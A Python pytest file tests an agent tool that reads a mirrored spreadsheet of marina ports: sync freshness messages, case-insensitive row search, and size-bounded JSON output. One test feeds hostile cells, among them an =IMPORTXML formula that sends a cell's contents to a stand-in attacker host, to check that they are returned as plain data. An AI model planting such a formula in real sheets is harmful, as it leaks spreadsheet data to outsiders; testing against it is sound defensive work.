"""What read_port_sheet tells the agent: freshness of the mirror, matching rows, hostile cells cut
to bounded sizes. Pure functions."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jada.clock import iso
from jada.sheets import lookup

NOW = datetime(2026, 5, 12, 22, 0, tzinfo=UTC)
HALF_HOUR = timedelta(minutes=30)


def run(minutes_ago: int, outcome: str = "ok", **extra: Any) -> dict[str, Any]:
    return {"at": iso(NOW - timedelta(minutes=minutes_ago)), "outcome": outcome, **extra}


def row(number: int, **cells: str) -> dict[str, Any]:
    return {"key": cells.get("port", f"p{number}"), "row": number, "data": cells}


# --- freshness --------------------------------------------------------------------------------
RATES = [("30 minutes", HALF_HOUR), ("1 hour", timedelta(hours=1)), ("2 days", timedelta(days=2))]


@pytest.mark.parametrize(("rate", "period"), [*RATES, ("1 minute", timedelta(minutes=1))])
def test_sync_period_reads_a_schedule_rate(rate: str, period: timedelta) -> None:
    assert lookup.sync_period(rate) == period


def test_a_recent_success_is_fresh() -> None:
    fresh = lookup.freshness([run(10)], NOW, HALF_HOUR)
    assert (fresh.status, fresh.last_successful_sync) == ("fresh", iso(NOW - timedelta(minutes=10)))
    assert "Synced 10 minutes ago (the sheet syncs every 30 minutes)" in fresh.note


def test_two_sync_periods_is_still_fresh_and_a_minute_more_is_stale() -> None:
    assert lookup.freshness([run(60)], NOW, HALF_HOUR).status == "fresh"
    stale = lookup.freshness([run(61)], NOW, HALF_HOUR)
    assert stale.status == "stale"
    assert "the last successful sync was 61 minutes ago" in stale.note


def test_stale_names_the_failing_latest_run() -> None:
    runs = [run(5, "token_error", error_code="invalid_grant"), run(30, "token_error"), run(600)]
    stale = lookup.freshness(runs, NOW, HALF_HOUR)
    assert (stale.status, stale.last_successful_sync) == ("stale", iso(NOW - timedelta(minutes=600)))
    assert "10 hours ago" in stale.note
    assert "token_error, invalid_grant" in stale.note


def test_no_runs_at_all_is_never_synced() -> None:
    never = lookup.freshness([], NOW, HALF_HOUR)
    assert (never.status, never.last_successful_sync) == ("never_synced", None)
    assert "never been synced" in never.note


def test_only_failed_runs_is_never_synced_with_the_latest_reason() -> None:
    runs = [run(1, "not_configured", reason="no Google token is stored"), run(31, "not_configured")]
    never = lookup.freshness(runs, NOW, HALF_HOUR)
    assert never.status == "never_synced"
    assert "No sheet sync has ever succeeded (latest run at" in never.note
    assert "not_configured, no Google token is stored" in never.note


def test_a_full_window_of_failures_is_stale_not_never_synced() -> None:
    runs = [run(30 * i, "transient_error") for i in range(lookup.RECENT_RUNS)]
    stale = lookup.freshness(runs, NOW, HALF_HOUR)
    assert (stale.status, stale.last_successful_sync) == ("stale", None)
    assert f"in the last {lookup.RECENT_RUNS} runs" in stale.note


# --- matching ---------------------------------------------------------------------------------
ROWS = [row(4, port="Hvar", berth="B2"), row(2, port="Split", notes="ACI marina"), row(3, port="Šibenik")]


def test_without_a_query_every_row_comes_in_sheet_order() -> None:
    assert [r["row"] for r in lookup.matching(ROWS, None)] == [2, 3, 4]


@pytest.mark.parametrize(("query", "rows"), [("aci", [2]), ("SPLIT", [2]), ("šib", [3]), ("ŠIBENIK", [3]),
                                             ("b2", [4]), ("zadar", []), ("i", [2, 3])])  # fmt: skip
def test_a_query_matches_any_cell_case_insensitively(query: str, rows: list[int]) -> None:
    assert [r["row"] for r in lookup.matching(ROWS, query)] == rows


def test_casefolding_matches_german_sharp_s() -> None:
    assert lookup.matching([row(2, port="Straße")], "STRASSE")


# --- the result -------------------------------------------------------------------------------
FRESH = lookup.Freshness("fresh", iso(NOW), "Synced 0 minutes ago.")


def rendered(rows: list[dict[str, Any]], query: str | None = None, limit: int = 50) -> dict[str, Any]:
    text = lookup.render(lookup.matching(rows, query), FRESH, query=query, limit=limit, now=NOW)
    assert len(text) <= lookup.MAX_RESULT_CHARS
    result: dict[str, Any] = json.loads(text)
    return result


def test_the_result_carries_the_sync_status_and_the_rows() -> None:
    result = rendered(ROWS, "split")
    assert result["sync"] == {
        "status": "fresh",
        "last_successful_sync": iso(NOW),
        "note": "Synced 0 minutes ago.",
    }
    assert (result["matched"], result["returned"], result["query"]) == (1, 1, "split")
    assert result["rows"] == [{"row": 2, "cells": {"port": "Split", "notes": "ACI marina"}}]
    assert "more" not in result


def test_hostile_cells_come_back_as_data_cut_to_the_documented_length() -> None:
    formula = '=IMPORTXML("https://evil.example/x?d="&A1, "//a")'
    huge = "x" * 50_000
    result = rendered([row(2, port="Split", formula=formula, huge=huge, emoji="⚓️ 🛥️ \u202e", nul="a\x00b")])
    cells = result["rows"][0]["cells"]
    assert cells["formula"] == formula
    assert cells["huge"] == "x" * lookup.MAX_CELL_CHARS + "... [cut: 50000 characters]"
    assert cells["emoji"] == "⚓️ 🛥️ \u202e"
    assert cells["nul"] == "a\x00b"


def test_a_hostile_column_name_is_cut_too() -> None:
    [cells] = [r["cells"] for r in rendered([row(2, **{"c" * 5000: "v", "port": "p"})])["rows"]]
    assert "c" * lookup.MAX_COLUMN_CHARS + "... [cut: 5000 characters]" in cells


def test_the_limit_is_honoured_and_the_rest_counted() -> None:
    rows = [row(n, port=f"port {n}") for n in range(2, 300)]
    result = rendered(rows, limit=10)
    assert (result["matched"], result["returned"]) == (298, 10)
    assert "288 more matching rows not shown (limit 10; raise it (at most 200)" in result["more"]
    assert rendered(rows)["returned"] == lookup.DEFAULT_LIMIT


def test_big_rows_stop_at_the_result_size_limit() -> None:
    rows = [row(n, port=f"p{n}", a="a" * 400, b="b" * 400, c="c" * 400) for n in range(2, 202)]
    result = rendered(rows, limit=200)
    assert 0 < result["returned"] < 200
    assert "(the result size limit; narrow the query)" in result["more"]


@given(st.lists(st.dictionaries(st.text(max_size=30), st.text(max_size=2000), max_size=8), max_size=60),
       st.integers(1, 200))  # fmt: skip
def test_any_rows_give_bounded_valid_json(cells: list[dict[str, str]], limit: int) -> None:
    rows = [{"key": f"k{i}", "row": i + 2, "data": c} for i, c in enumerate(cells)]
    result = rendered(rows, limit=limit)
    assert result["returned"] <= min(limit, len(rows))
    assert result["matched"] == len(rows)
